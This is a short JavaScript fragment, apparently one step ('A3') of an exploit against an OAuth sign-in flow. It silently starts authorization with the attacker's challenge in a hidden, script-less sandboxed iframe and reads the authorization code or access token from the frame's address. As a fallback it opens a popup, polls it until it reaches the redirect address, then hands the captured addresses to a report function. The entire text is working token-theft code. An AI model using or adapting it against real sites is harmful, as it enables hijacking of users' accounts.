// A3: signs in silently, with the attacker's challenge, and reads the code off
// the address of a frame, or a window, that has come back to this origin.
const places = {};
const addressOf = (other) => { try { return other.location.href; } catch { return ""; } };

// allow-same-origin and no scripts: the application in the frame does not run,
// and cannot clear its address.
const frame = document.createElement("iframe");
frame.sandbox = "allow-same-origin";
frame.hidden = true;
const loaded = new Promise((resolve) => { frame.onload = resolve; });
frame.src = authorize;
document.body.append(frame);
await within(10000, loaded);
places.frame = addressOf(frame.contentWindow);
frame.remove();

if (!/code=|access_token=/.test(places.frame)) {
  const other = open(authorize);
  const back = async () => {
    while (other && !other.closed && !addressOf(other).startsWith(redirect)) await new Promise((resolve) => setTimeout(resolve, 10));
  };
  await within(10000, back());
  places.window = other ? addressOf(other) : "";
  other?.close();
}
await report(places);
